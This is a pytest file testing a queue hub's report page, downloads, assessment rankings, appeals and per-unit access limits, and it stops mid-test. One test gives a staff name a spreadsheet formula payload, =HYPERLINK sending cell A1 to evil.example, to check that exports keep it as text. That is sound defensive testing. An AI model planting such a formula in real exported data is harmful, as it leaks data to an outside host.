"""The report page (/reports) against a hub holding a small simulated history (bulk path).

What the page shows is checked against the hub's own figures: the table's rows and totals, the
server-drawn SVG charts, the CSV download (Chinese headers, same numbers), the assessment ranking
with one person's detail, and an appeal decided from the page that the appeals API then reports.
"""
from __future__ import annotations

import asyncio
import csv
import io
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update
from playwright.async_api import Browser, Page, Route, expect

from server.accounts import Role
from server.api.keys import ACCOUNTS, CONFIG, DATABASE
from server.config.paths import default_config_dir
from server.simulation.bulk import bulk_history
from server.simulation.history import SimulationOptions
from server.simulation.profile import load_profile
from server.stats.labels import GroupLabels
from server.stats.metrics import figures
from server.storage.schema import stat_leg_facts, users
from tests.conftest import HUB_PASSWORD, THURSDAY, Hub, publish_screenshot
from tests.dashboard.conftest import post, sign_in

START = date(2026, 11, 2)
END = THURSDAY - timedelta(days=1)


async def simulate(hub: Hub) -> None:
    profile = load_profile(default_config_dir() / "traffic_profile.toml")
    days = (END - START).days + 1
    await bulk_history(hub.app[DATABASE], hub.app[CONFIG], profile, START, days, SimulationOptions(volume=0.03, seed=5))


async def bad_rating_appeal(hub: Hub) -> int:
    """Today, staff01 serves a citizen who rates 1 and appeals it."""
    await post(hub, "/windows/W19/login", "staff01")
    ticket = (await post(hub, "/tickets", "kiosk", {"queue": "C1"}))["ticket"]
    for step in ("call-next", "start"):
        await post(hub, f"/windows/W19/{step}", "staff01")
    await post(hub, "/windows/W19/finish", "staff01", {"outcome": "completed"})
    assert (await hub.client.post(f"/api/v1/status/{ticket['status_token']}/rating", json={"score": 1})).status == 200
    return (await post(hub, "/appeals", "staff01", {"ticket_id": ticket["id"], "reason": "群众误操作，现场已致歉"}))["id"]


@pytest.mark.browser
async def test_report_page_table_charts_csv_assessment_and_appeal(page: Page, web_hub: Hub, tmp_path: Path) -> None:
    await simulate(web_hub)
    appeal_id = await bad_rating_appeal(web_hub)
    expected = await web_hub.app[DATABASE].read(lambda c: figures(c, START, END, "zone"))
    assert sum(r.tickets for r in expected) > 100
    zone_label = GroupLabels(web_hub.app[CONFIG], {}).label
    assert zone_label("zone", "A") == "A区 综合受理区（一窗通办）"  # the zone's name, not its code

    await sign_in(page, web_hub, "/reports")
    await expect(page.locator("#view-reports")).to_be_visible()
    await page.fill("#from", START.isoformat())
    await page.fill("#to", END.isoformat())
    await page.select_option("#by", "zone")
    await page.click("#run-report")
    table = page.locator(".report-table")
    await expect(table.locator("thead th").first).to_have_text("分区")
    await expect(table.locator("tbody tr")).to_have_count(len(expected))
    for i, row in enumerate(expected):
        cells = table.locator("tbody tr").nth(i).locator("td")
        await expect(cells.nth(0)).to_have_text(zone_label("zone", row.key))
        await expect(cells.nth(1)).to_have_text(str(row.tickets))
    await expect(page.locator(".charts svg")).to_have_count(4)
    assert await page.locator("#report .note").count() == 0  # a past period: complete, no caveat
    await expect(page.locator(".charts svg[aria-label='分时段取号量'] rect").first).to_be_visible()
    await expect(page.locator(".charts svg[aria-label='每日取号量趋势'] polyline")).to_have_count(1)

    async with page.expect_download() as info:
        await page.click("#download-csv")
    download = await info.value
    raw = Path(await download.path()).read_bytes()
    assert raw.startswith("\ufeff".encode()), "BOM, so Excel reads the Chinese headers"
    lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    heading = lines.index([])  # what the file is, then an empty line, then the table
    assert lines[heading + 1][:3] == ["分区", "取号数", "办结数"]
    assert [(line[0], int(line[1])) for line in lines[heading + 2:]] == [(zone_label("zone", r.key), r.tickets) for r in expected]
    assert download.suggested_filename.endswith(".csv")

    # Narrowed to one zone from the page's own select: one row, that zone's.
    await page.select_option("#filter-zone", "C")
    await page.click("#run-report")
    await expect(table.locator("tbody tr")).to_have_count(1)
    await expect(table.locator("tbody tr td").first).to_have_text(zone_label("zone", "C"))
    assert await page.locator("#filter-unit option").count() == len(web_hub.app[CONFIG].units) + 1
    await page.select_option("#filter-zone", "")

    await page.fill("#month", "2027-01")  # nobody yet: a sentence, not empty ranking tables
    await page.click("#run-assessment")
    await expect(page.locator("#assess-empty")).to_be_visible()
    await expect(page.locator("#ranking")).to_be_hidden()
    await page.fill("#month", "2026-11")
    await page.click("#run-assessment")
    await expect(page.locator("#assess-empty")).to_be_hidden()
    ranking = page.locator("#ranking-rows tr")
    await expect(ranking.first).to_be_visible()
    assert await ranking.count() >= 10
    await expect(ranking.first.locator("td").first).to_have_text("1")
    # Units by their names, as the hall calls them, in both rankings (they showed U29).
    unit_names = {u.name for u in web_hub.app[CONFIG].units}
    shown_units = await page.eval_on_selector_all("#ranking-rows tr td:nth-child(3), #unit-rows tr td:nth-child(2)",
                                                  "cells => cells.map(c => c.textContent)")
    assert shown_units and all(text in unit_names or text == "—" for text in shown_units), shown_units[:5]
    await ranking.first.locator("button").click()
    await expect(page.locator("#person-detail")).to_be_visible()
    await expect(page.locator("#person-lines tr").first).to_be_visible()
    # Shares in percent beside thresholds in percent (it showed 0.1879 beside "> 20%").
    measured = dict(await page.eval_on_selector_all(
        "#person-lines tr", "rows => rows.map(r => [r.cells[0].textContent, r.cells[1].textContent])"))
    assert measured["过号率"] == "—" or measured["过号率"].endswith("%"), measured
    assert measured["满意率（4-5分）"] == "—" or measured["满意率（4-5分）"].endswith("%"), measured
    # staff01 has an account: the ranking shows the name with the id (staff ids only, before).
    await expect(page.locator("#ranking-rows tr[data-staff='staff01'] td").nth(1)).to_have_text("张三（staff01）")

    async with page.expect_download() as info:
        await page.click("#download-assessment")
    saved = await info.value
    assert saved.suggested_filename == "月度考核_2026-11.xlsx"
    book = load_workbook(io.BytesIO(Path(await saved.path()).read_bytes()))
    assert book.sheetnames == ["考核排名", "考核明细", "单位排名", "差评回访"]
    rows = list(book["考核排名"].iter_rows(values_only=True))
    ranked = rows[[r[0] for r in rows].index("排名") + 1:]  # below what the sheet is and its header
    assert ("张三（staff01）" in {r[1] for r in ranked}) and len(ranked) == await ranking.count()
    assert all(isinstance(r[0], int) for r in ranked)

    row = page.locator(f"#appeal-rows tr[data-appeal='{appeal_id}']")
    await expect(row.locator("td.status")).to_have_text("待复核")
    await expect(row.locator("td").nth(0)).to_have_text(THURSDAY.isoformat())  # numbers repeat daily
    await expect(row.locator("td").nth(2)).to_have_text("张三（staff01）")
    await row.locator("button.reject").click()  # no reason typed: refused, nothing decided
    await expect(page.locator("#appeal-error")).not_to_be_empty()
    await expect(row.locator("td.status")).to_have_text("待复核")
    await row.locator("input").fill("录像显示服务规范，评价有效")
    await row.locator("button.reject").click()
    await expect(row.locator("td.status")).to_have_text("已驳回")
    await expect(row.locator("td").last).to_have_text("大厅管理员（manager）：录像显示服务规范，评价有效")
    # The appeal rejected, staff01's bad rating stands: the line lists the ticket behind it. The
    # rejection reads the month again, and 查看考核 may be pressed while that read is out: the newest
    # answer is shown, and the 考核明细 opened above stays open (it closed under the manager's hand,
    # and this test then clicked on a detail that had just vanished).
    await page.click("#run-assessment")
    await expect(page.locator("#assessment-card")).not_to_have_attribute("aria-busy", "true")
    await expect(page.locator("#person-detail")).to_be_visible()
    await page.locator("#ranking-rows tr[data-staff='staff01'] button").click()
    await page.locator("#person-lines tr[data-rule='bad_ratings'] button.cases").click()
    await expect(page.locator("#case-rows tr")).to_have_count(1)
    cells = await page.locator("#case-rows tr td").all_text_contents()
    assert cells == [THURSDAY.isoformat(), "C1001", "C1 不动产登记", "19号窗口", "1 分"], cells
    await expect(page.locator("#cases-title")).to_contain_text("张三（staff01）：差评（申诉复核后）（1 件）")
    await expect(page.locator("#cases-note")).to_be_hidden()  # an open month: nothing to say about the list
    response = await web_hub.client.get("/api/v1/appeals", headers=web_hub.auth("manager"))
    [appeal] = (await response.json())["appeals"]
    assert (appeal["status"], appeal["decided_by"], appeal["decision_reason"]) == ("rejected", "manager", "录像显示服务规范，评价有效")

    # Today's report says that tickets still in the hall are not in it yet (it read half the
    # dashboard's 取号数 with no word why).
    await page.fill("#from", THURSDAY.isoformat())
    await page.fill("#to", THURSDAY.isoformat())
    await page.click("#run-report")
    await expect(page.locator("#report .note")).to_contain_text("今日数据只含已结束的号票")

    await page.locator("#report").scroll_into_view_if_needed()
    await page.screenshot(path=str(tmp_path / "report.png"), full_page=True)
    publish_screenshot(tmp_path / "report.png")


async def test_report_downloads_refuse_staff_and_bad_periods(web_hub: Hub) -> None:
    response = await web_hub.client.get("/api/v1/stats/report.csv", headers=web_hub.auth("staff01"))
    assert response.status == 403, "staff may not download hall figures"
    response = await web_hub.client.get("/api/v1/stats/report.xlsx?from=2026-11-20&to=2026-11-01", headers=web_hub.auth("manager"))
    body = await response.json()
    assert response.status == 400 and body["error"]["message"] == "统计结束日期早于开始日期"
    response = await web_hub.client.get("/api/v1/stats/report.xlsx?from=2026-11-01&to=2026-11-20", headers=web_hub.auth("manager"))
    assert response.status == 200 and (await response.read())[:2] == b"PK", "an xlsx is a zip"


async def test_a_report_narrowed_to_one_zone_or_unit(web_hub: Hub) -> None:
    """Tried: the simulated month's report by day for zone C, for one unit, for zone C by window,
    for a zone and a unit that do not exist. Kept: only that zone's or unit's tickets, its
    windows' availability (a zone's report read the whole hall's), the charts of the same tickets,
    and a 404 naming what was not found (an empty report would read as "nothing happened")."""
    await simulate(web_hub)
    manager = web_hub.auth("manager")

    async def rows(query: str) -> list[dict]:
        response = await web_hub.client.get(f"/api/v1/stats/report?from={START}&to={END}&{query}", headers=manager)
        assert response.status == 200, await response.text()
        return (await response.json())["rows"]

    whole = {r["key"]: r for r in await rows("by=zone")}
    [zone_c] = await rows("by=all&zone=C")
    assert zone_c["tickets"] == whole["C"]["tickets"] and zone_c["availability"] == whole["C"]["availability"]
    days = await rows("by=day&zone=C")
    assert sum(r["tickets"] for r in days) == whole["C"]["tickets"]
    windows = await rows("by=window&zone=C")
    # Zone C's legs by the window that handled them (a window of another zone after a transfer).
    legs = await web_hub.app[DATABASE].read(lambda c: c.execute(select(func.count()).select_from(stat_leg_facts).where(
        stat_leg_facts.c.zone == "C", stat_leg_facts.c.hall_day >= START, stat_leg_facts.c.hall_day <= END)).scalar())
    assert sum(r["tickets"] for r in windows) == legs >= whole["C"]["tickets"]
    assert max(windows, key=lambda r: r["tickets"])["key"] in {w.id for w in web_hub.app[CONFIG].windows if w.zone == "C"}
    unit = web_hub.app[CONFIG].queue("C1").unit
    by_unit = {r["key"]: r for r in await rows("by=unit")}
    [one_unit] = await rows(f"by=all&unit={unit}")
    assert one_unit["tickets"] == by_unit[unit]["tickets"]
    page = await web_hub.client.get(f"/api/v1/stats/report.html?from={START}&to={END}&by=day&zone=C", headers=manager)
    whole_page = await web_hub.client.get(f"/api/v1/stats/report.html?from={START}&to={END}&by=day", headers=manager)
    assert "C区" in await page.text() and await page.text() != await whole_page.text()
    for query, missing in (("zone=Q", "未找到分区：Q"), ("unit=U99", "未找到单位：U99")):
        response = await web_hub.client.get(f"/api/v1/stats/report?from={START}&to={END}&by=day&{query}", headers=manager)
        assert response.status == 404 and (await response.json())["error"]["message"] == missing


async def test_the_cases_behind_each_line_add_up_to_it(web_hub: Hub) -> None:
    """Tried: every person of the simulated month, each line made of tickets. Kept: the listed
    tickets are as many as the line counts (办理超时 73 gave no way to see which 73), each with
    its day, number, queue and window by name (they were codes) and measure, a no-show's being
    its calls (it was none, under 等候时长); a rule with no tickets (paused) is refused in Chinese."""
    await simulate(web_hub)
    manager = web_hub.auth("manager")
    people = (await (await web_hub.client.get("/api/v1/stats/assessment?month=2026-11", headers=manager)).json())["people"]
    level_s = web_hub.app[CONFIG].hall.service_level_min * 60
    checked = no_shows = 0
    for person in people[:12]:
        lines = {line["rule"]: line for line in person["lines"]}
        for rule in ("service_time", "waits", "no_shows", "bad_ratings"):
            response = await web_hub.client.get(
                f"/api/v1/stats/assessment/{person['staff_id']}/cases?month=2026-11&rule={rule}", headers=manager)
            cases = (await response.json())["cases"]
            if rule in ("service_time", "bad_ratings"):
                assert len(cases) == lines[rule]["measured"], (person["staff_id"], rule)
            elif rule == "waits":
                assert all(c["measure"] > level_s for c in cases)
            else:  # a no-show's calls, where the list said 等候时长 and showed — for every one
                assert all(c["measure"] >= 1 and c["measure"] == int(c["measure"]) for c in cases), cases
                no_shows += len(cases)
            assert all(c["window_label"] == web_hub.app[CONFIG].window(c["window_id"]).name for c in cases)
            assert all(c["queue_label"] == f"{c['queue']} {web_hub.app[CONFIG].queue(c['queue']).name}" for c in cases)
            checked += len(cases)
            assert all(START <= date.fromisoformat(c["hall_day"]) <= END for c in cases)
    assert checked > 0 and no_shows > 0, "the month has cases to list"
    response = await web_hub.client.get(f"/api/v1/stats/assessment/{people[0]['staff_id']}/cases?month=2026-11&rule=paused",
                                        headers=manager)
    assert response.status == 400 and "取值无效" in (await response.json())["error"]["message"]


async def chief_of(hub: Hub, username: str, unit: str | None) -> str:
    await hub.app[ACCOUNTS].add_user(username, HUB_PASSWORD, Role.CHIEF, "赵首席", unit, now=hub.engine.clock.now())
    response = await hub.client.post("/api/v1/auth/login", json={"username": username, "password": HUB_PASSWORD})
    hub.tokens[username] = (await response.json())["token"]
    return username


async def test_a_chief_representative_sees_only_their_units_figures(web_hub: Hub, page: Page) -> None:
    """Tried: a unit's chief representative asking for the hall's report, another unit's, a
    download, and one without a unit on their account; then the report page. Kept: their own
    unit's figures whatever they ask (HALL.md: a chief sees their unit's windows and figures; they
    got 403 on every report), another unit refused, an account without a unit refused, and on the
    page the unit fixed and the manager's assessment and appeals hidden."""
    await simulate(web_hub)
    unit = web_hub.app[CONFIG].queue("C1").unit
    chief = await chief_of(web_hub, "chief-c", unit)
    other = next(u.code for u in web_hub.app[CONFIG].units if u.code != unit)
    manager, own = web_hub.auth("manager"), web_hub.auth(chief)
    period = f"from={START}&to={END}"
    mine = await (await web_hub.client.get(f"/api/v1/stats/report?{period}&by=all&unit={unit}", headers=manager)).json()
    asked_all = await web_hub.client.get(f"/api/v1/stats/report?{period}&by=all", headers=own)
    assert asked_all.status == 200 and (await asked_all.json())["rows"] == mine["rows"]
    refused = await web_hub.client.get(f"/api/v1/stats/report?{period}&by=day&unit={other}", headers=own)
    assert refused.status == 403 and (await refused.json())["error"]["message"] == "首席代表只能查看本单位的统计"
    csv_file = await web_hub.client.get(f"/api/v1/stats/report.csv?{period}&by=all", headers=own)
    csv_lines = (await csv_file.text()).splitlines()
    assert csv_file.status == 200 and str(mine["rows"][0]["tickets"]) in csv_lines[-1].split(",")
    assert f"筛选条件,单位：{web_hub.app[CONFIG].unit(unit).name}" in csv_lines, "the file says whose figures it holds"
    assessment = await web_hub.client.get("/api/v1/stats/assessment?month=2026-11", headers=own)
    assert assessment.status == 403  # the hall's ranking is the manager's
    no_unit = web_hub.auth(await chief_of(web_hub, "chief-none", None))
    refused = await web_hub.client.get(f"/api/v1/stats/report?{period}&by=day", headers=no_unit)
    assert refused.status == 403 and "未设置所属单位" in (await refused.json())["error"]["message"]

    await sign_in(page, web_hub, "/reports", chief)
    await expect(page.locator("#view-reports")).to_be_visible()
    await expect(page.locator("#filter-unit")).to_be_disabled()  # set once the page has read the hall
    await expect(page.locator("#filter-unit")).to_have_value(unit)
    await expect(page.locator("#assessment-card")).to_be_hidden()
    await expect(page.locator("#appeals-card")).to_be_hidden()
    await page.fill("#from", START.isoformat())
    await page.fill("#to", END.isoformat())
    await page.select_option("#by", "all")
    await page.click("#run-report")
    await expect(page.locator(".report-table tbody tr td").nth(1)).to_have_text(str(mine["rows"][0]["tickets"]))


@pytest.mark.browser
async def test_a_chiefs_report_page_offers_only_their_unit(web_hub: Hub, page: Page) -> None:
    """Tried: the report page signed in as C1's unit's chief, then as the manager; and the API
    asked for another unit by that chief. Seen: the chief's unit select held every unit of the
    hall and 全部单位 (each other choice answered 403). Kept: the chief's select holds their own
    unit alone; the manager's every unit and 全部单位; the hub still answers 403 for another unit."""
    config = web_hub.app[CONFIG]
    unit = config.queue("C1").unit
    chief = await chief_of(web_hub, "chief-c", unit)
    await sign_in(page, web_hub, "/reports", chief)
    await expect(page.locator("#filter-unit")).to_be_disabled()  # set once the page has read the hall
    options = page.locator("#filter-unit option")
    await expect(options).to_have_count(1)
    assert await options.evaluate_all("os => os.map(o => [o.value, o.textContent])") == [[unit, config.unit(unit).name]]
    await page.click("#run-report")
    await expect(page.locator(".report-table")).to_be_visible()
    assert await page.locator("#report-error").text_content() == ""
    other = next(u.code for u in config.units if u.code != unit)
    refused = await web_hub.client.get(f"/api/v1/stats/report?by=day&unit={other}", headers=web_hub.auth(chief))
    assert refused.status == 403, "the hub stays the authority"

    await page.click("#sign-out")  # the page reloads to its sign-in form
    await expect(page.locator("#login-user")).to_be_visible()
    await page.fill("#login-user", "manager")
    await page.fill("#login-pass", HUB_PASSWORD)
    await page.click("#login-submit")
    await expect(page.locator("#filter-unit")).to_be_enabled()
    await expect(options).to_have_count(len(config.units) + 1)  # 全部单位 and every unit


async def test_a_chiefs_staff_report_lists_those_who_served_their_units_tickets(web_hub: Hub) -> None:
    """Tried: today, staff03 (an account of U09) at W11, U08's window, serving a B2 ticket (U09's
    queue) only; u08-clerk, U08's own, logged in at W17 and serving nothing; staff01 at the
    综合窗口 W01 passing an A1 ticket (U01's) to queue A2, where staff02 at W02 concludes it and is
    rated 1. Then each unit's chief asks for the report by staff. Seen: U08's listed staff03 with
    0 tickets (time at its window, none of its tickets). Kept: U08's lists its own idle clerk and
    not staff03; U09's lists staff03; U01's lists staff01 (A1's leg) and staff02, who holds the
    rating U01's report counts (with no leg of A1's); no other unit's person with nothing of its."""
    await web_hub.app[DATABASE].write(lambda c: c.execute(update(users).where(users.c.username == "staff03").values(unit="U09")))
    await web_hub.app[ACCOUNTS].add_user("u08-clerk", HUB_PASSWORD, Role.STAFF, "周九", "U08", now=web_hub.engine.clock.now())
    for window, who in (("W01", "staff01"), ("W02", "staff02")):
        await post(web_hub, f"/windows/{window}/login", who)
    for window, who in (("W11", "staff03"), ("W17", "u08-clerk")):  # relief across units: the manager places them
        await post(web_hub, f"/windows/{window}/login", "manager", {"staff_id": who})
    ticket = (await post(web_hub, "/tickets", "kiosk", {"queue": "A1"}))["ticket"]
    for step in ("call-next", "start"):
        await post(web_hub, f"/windows/W01/{step}", "staff01")
    await post(web_hub, "/windows/W01/transfer", "staff01", {"target_kind": "queue", "target": "A2"})
    for step in ("call-next", "start"):
        await post(web_hub, f"/windows/W02/{step}", "staff02")
    await post(web_hub, "/windows/W02/finish", "staff02", {"outcome": "completed"})
    assert (await web_hub.client.post(f"/api/v1/status/{ticket['status_token']}/rating", json={"score": 1})).status == 200
    await post(web_hub, "/tickets", "kiosk", {"queue": "B2"})
    for step in ("call-next", "start"):
        await post(web_hub, f"/windows/W11/{step}", "staff03")
    await post(web_hub, "/windows/W11/finish", "staff03", {"outcome": "completed"})

    async def staff_rows(unit: str) -> dict[str, tuple[int, int]]:
        chief = await chief_of(web_hub, f"chief-{unit}", unit)
        response = await web_hub.client.get(f"/api/v1/stats/report?from={THURSDAY}&to={THURSDAY}&by=staff",
                                            headers=web_hub.auth(chief))
        assert response.status == 200, await response.text()
        return {r["key"]: (r["tickets"], r["rated"]) for r in (await response.json())["rows"]}

    assert await staff_rows("U08") == {"u08-clerk": (0, 0)}
    assert await staff_rows("U09") == {"staff03": (1, 0)}
    assert await staff_rows("U01") == {"staff01": (1, 0), "staff02": (0, 1)}
    assert await staff_rows("U02") == {"staff02": (1, 0)}


async def test_a_chiefs_dashboard_is_their_units(web_hub: Hub) -> None:
    """Tried: /stats/today for the chief of C1's unit with tickets in C1 and A1. Kept: only the
    zones, queues and windows of their unit, and counts of its tickets (the whole hall before)."""
    unit = web_hub.app[CONFIG].queue("C1").unit
    chief = await chief_of(web_hub, "chief-c", unit)
    for queue in ("C1", "C1", "A1"):
        await post(web_hub, "/tickets", "kiosk", {"queue": queue})
    whole = await (await web_hub.client.get("/api/v1/stats/today", headers=web_hub.auth("manager"))).json()
    mine = await (await web_hub.client.get("/api/v1/stats/today", headers=web_hub.auth(chief))).json()
    own_queues = {q.prefix for q in web_hub.app[CONFIG].queues if q.unit == unit}
    assert {q["prefix"] for z in mine["zones"] for q in z["queues"]} == own_queues
    assert {z["code"] for z in mine["zones"]} == {web_hub.app[CONFIG].queue(q).zone for q in own_queues}
    assert mine["totals"]["issued"] == 2 and whole["totals"]["issued"] == 3
    config = web_hub.app[CONFIG]
    assert mine["windows"] and all(own_queues & set(config.window(w["id"]).queues) or config.window(w["id"]).unit == unit
                                   for w in mine["windows"])  # the windows serving its queues, and its back offices
    assert len(mine["windows"]) < len(whole["windows"])


async def test_a_chief_lists_only_their_units_appeals(web_hub: Hub) -> None:
    """Tried: appeals by c-staff (of the chief's unit) and o-staff (of another, relieving at the
    unit's window W19), both of the unit's C1 tickets, listed by the chief and by the manager.
    Kept: the chief sees only their unit's (they listed the hall's), and that is the appeals of
    the unit's tickets, o-staff's too: their report and follow-ups count that bad rating (by the
    clerk's account unit, o-staff's appeal went to the other unit's chief)."""
    unit = web_hub.app[CONFIG].queue("C1").unit
    other = next(u.code for u in web_hub.app[CONFIG].units if u.code != unit)
    await web_hub.app[ACCOUNTS].add_user("c-staff", HUB_PASSWORD, Role.STAFF, "钱七", unit, now=web_hub.engine.clock.now())
    await web_hub.app[ACCOUNTS].add_user("o-staff", HUB_PASSWORD, Role.STAFF, "孙八", other, now=web_hub.engine.clock.now())
    for who in ("c-staff", "o-staff"):
        response = await web_hub.client.post("/api/v1/auth/login", json={"username": who, "password": HUB_PASSWORD})
        web_hub.tokens[who] = (await response.json())["token"]
        await post(web_hub, "/windows/W19/login", "manager", {"staff_id": who})  # o-staff: relief across units, the manager places them
        ticket = (await post(web_hub, "/tickets", "kiosk", {"queue": "C1"}))["ticket"]
        for step in ("call-next", "start"):
            await post(web_hub, f"/windows/W19/{step}", who)
        await post(web_hub, "/windows/W19/finish", who, {"outcome": "completed"})
        rated = await web_hub.client.post(f"/api/v1/status/{ticket['status_token']}/rating", json={"score": 1})
        assert rated.status == 200
        await post(web_hub, "/appeals", who, {"ticket_id": ticket["id"], "reason": "评价有误，请复核"})
        await post(web_hub, "/windows/W19/logout", who)
    chief = await chief_of(web_hub, "chief-c", unit)
    seen = await (await web_hub.client.get("/api/v1/appeals", headers=web_hub.auth(chief))).json()
    assert sorted(a["staff_id"] for a in seen["appeals"]) == ["c-staff", "o-staff"]
    other_chief = await chief_of(web_hub, "chief-o", other)
    theirs = await (await web_hub.client.get("/api/v1/appeals", headers=web_hub.auth(other_chief))).json()
    assert theirs["appeals"] == [], "no ticket of the other unit was rated"
    everyone = await (await web_hub.client.get("/api/v1/appeals", headers=web_hub.auth("manager"))).json()
    assert sorted(a["staff_id"] for a in everyone["appeals"]) == ["c-staff", "o-staff"]


async def test_names_that_look_like_formulas_stay_text_in_the_files(web_hub: Hub) -> None:
    """Tried: an account whose display name is a spreadsheet formula (=HYPERLINK sending A1 to
    another site), serving today, then the report (CSV, XLSX, by staff) and the month's
    assessment workbook. Kept: the name is in every file as text: a string cell in the
    workbooks (openpyxl had stored it as a formula), behind an apostrophe in the CSV."""
    name = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    await web_hub.app[ACCOUNTS].add_user("formula", HUB_PASSWORD, Role.STAFF, name, now=web_hub.engine.clock.now())
    response = await web_hub.client.post("/api/v1/auth/login", json={"username": "formula", "password": HUB_PASSWORD})
    web_hub.tokens["formula"] = (await response.json())["token"]
    await post(web_hub, "/windows/W19/login", "formula")
    await post(web_hub, "/tickets", "kiosk", {"queue": "C1"})
    for step in ("call-next", "start"):
        await post(web_hub, f"/windows/W19/{step}", "formula")
    await post(web_hub, "/windows/W19/finish", "formula", {"outcome": "completed"})
    period, manager = "from=2026-11-26&to=2026-11-26&by=staff", web_hub.auth("manager")

    raw = await (await web_hub.client.get(f"/api/v1/stats/report.csv?{period}", headers=manager)).read()
    labels = [line[0] for line in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) if line]
    assert any(label.startswith("'=HYPERLINK(") for label in labels), labels
    assert not any(label.startswith("=") for label in labels)

    workbooks = [await (await web_hub.client.get(url, headers=manager)).read()
                 for url in (f"/api/v1/stats/report.xlsx?{period}", "/api/v1/stats/assessment.xlsx?month=2026-11")]
    found = 0
    for data in workbooks:
        for sheet in load_workbook(io.BytesIO(data)).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    found += isinstance(cell.value, str) and cell.value.startswith("=HYPERLINK(")
    assert found >= 2, "the name is in both workbooks, as text"


async def test_a_working_day_without_tickets_is_a_zero_in_the_daily_trend(web_hub: Hub) -> None:
    """Tried: one ticket served on Thursday 26 November, a report of Friday 20 to Saturday 28
    read on the Thursday. Seen: the daily trend drew one point, the working days without a ticket
    left out, as if nothing were missing. Kept: every working day of the period so far is a point,
    at 0 where nobody came; the weekend and the days still to come are none."""
    await bad_rating_appeal(web_hub)
    response = await web_hub.client.get("/api/v1/stats/report.html?from=2026-11-20&to=2026-11-28&by=day",
                                        headers=web_hub.auth("manager"))
    page = await response.text()
    trend = page[page.index("每日取号量趋势"):]
    points = [title.split("</title>")[0] for title in trend.split("<title>")[1:]]
    assert points == ["11-20: 0", "11-23: 0", "11-24: 0", "11-25: 0", "11-26: 1"]


@pytest.mark.browser
async def test_a_refused_query_leaves_no_old_figures_under_its_message(page: Page, web_hub: Hub, tmp_path: Path) -> None:
    """Tried: today's report and this month's assessment shown, then a period that ends before it
    starts (the hub refuses it, 400), then the manager's session ended elsewhere and the
    assessment asked again (401). It was: the message appeared above the previous report's table
    and charts, and above the previous ranking, which a manager could take for the answer. Kept:
    the message alone; the old table, charts, ranking and unit ranking are gone; a good query
    afterwards draws its report again."""
    await bad_rating_appeal(web_hub)
    await sign_in(page, web_hub, "/reports")
    await page.fill("#from", THURSDAY.isoformat())
    await page.fill("#to", THURSDAY.isoformat())
    await page.select_option("#by", "all")
    await page.click("#run-report")
    await expect(page.locator("#report .report-table")).to_be_visible()
    await page.click("#run-assessment")
    await expect(page.locator("#ranking-rows tr").first).to_be_visible()
    assert await page.locator("#unit-rows tr").count() > 0

    await page.fill("#from", (THURSDAY + timedelta(days=1)).isoformat())
    await page.click("#run-report")
    await expect(page.locator("#report-error")).to_have_text("统计结束日期早于开始日期")
    await expect(page.locator("#report")).to_have_text("")
    assert await page.locator("#report table, #report svg").count() == 0
    await page.screenshot(path=str(tmp_path / "report_refused.png"), full_page=True)

    token = await page.evaluate("sessionStorage.getItem('hallq.token')")
    response = await web_hub.client.post("/api/v1/auth/logout", headers={"Authorization": f"Bearer {token}"})
    assert response.status == 200, await response.text()
    await page.click("#run-assessment")
    await expect(page.locator("#assess-error")).not_to_be_empty()
    await expect(page.locator("#ranking-rows tr")).to_have_count(0)
    await expect(page.locator("#unit-rows tr")).to_have_count(0)
    assert await page.is_hidden("#ranking") and await page.is_hidden("#month-state")

    await sign_in(page, web_hub, "/reports")
    await page.fill("#from", THURSDAY.isoformat())
    await page.fill("#to", THURSDAY.isoformat())
    await page.click("#run-report")
    await expect(page.locator("#report .report-table")).to_be_visible()
    await expect(page.locator("#report-error")).to_have_text("")
    assert (tmp_path / "report_refused.png").stat().st_size > 1000


@pytest.mark.browser
async def test_no_appeals_says_so(page: Page, web_hub: Hub) -> None:
    """Tried: the report page on a hub where no one has appealed, then after staff01 appeals a
    bad rating. Kept: an empty appeals card says there is nothing to review (it showed the
    table's headings over nothing, as if the list had failed to load), and the appeal, once made,
    is listed without that sentence."""
    await sign_in(page, web_hub, "/reports")
    await expect(page.locator("#appeals-empty")).to_have_text("暂无评价申诉：工作人员对差评提出申诉后，在此复核。")
    await expect(page.locator("#appeal-table")).to_be_hidden()
    appeal_id = await bad_rating_appeal(web_hub)
    await page.reload()
    await expect(page.locator(f"#appeal-rows tr[data-appeal='{appeal_id}']")).to_be_visible()
    await expect(page.locator("#appeals-empty")).to_be_hidden()


@pytest.mark.browser
async def test_the_unit_ranking_shows_only_with_a_month_read(page: Page, web_hub: Hub) -> None:
    """Tried: the report page before 查看考核, then a month without anyone (2030-01), then this
    month, where staff01 served a rated ticket. Kept: the 单位排名 heading and table appear only with
    a month that has units to rank (they stood empty on arrival and under 该月没有考核数据, as if
    the ranking had failed to load)."""
    await bad_rating_appeal(web_hub)
    await sign_in(page, web_hub, "/reports")
    await expect(page.locator("#assess-form")).to_be_visible()
    await expect(page.locator("h3", has_text="单位排名")).to_be_hidden()
    await page.fill("#month", "2030-01")
    await page.click("#run-assessment")
    await expect(page.locator("#assess-empty")).to_be_visible()
    await expect(page.locator("h3", has_text="单位排名")).to_be_hidden()
    await page.fill("#month", THURSDAY.isoformat()[:7])
    await page.click("#run-assessment")
    await expect(page.locator("#unit-rows tr").first).to_be_visible()
    await expect(page.locator("h3", has_text="单位排名")).to_be_visible()


@pytest.mark.browser
async def test_of_two_reads_of_the_month_the_newest_is_shown(page: Page, web_hub: Hub) -> None:
    """Tried: 查看考核 of a month without anyone (2030-01), held 2 s on its way back by the test,
    then of this month at once, with staff01's 考核明细 opened. It was: the older read arrived last
    and replaced this month's ranking with 该月没有考核数据 while the field said this month (and a
    re-read of the same month closed the detail open under the manager's hand). Kept: only the
    newest read's answer is shown, the card is aria-busy until it has come, and the detail opened
    stays open when the same month is read again."""
    await bad_rating_appeal(web_hub)
    await sign_in(page, web_hub, "/reports")
    await expect(page.locator("#assess-form")).to_be_visible()
    this_month = THURSDAY.isoformat()[:7]

    async def held(route) -> None:  # type: ignore[no-untyped-def]
        await asyncio.sleep(2)
        await route.continue_()

    await page.route("**/api/v1/stats/assessment?month=2030-01", held)
    await page.fill("#month", "2030-01")
    await page.click("#run-assessment")
    await page.fill("#month", this_month)
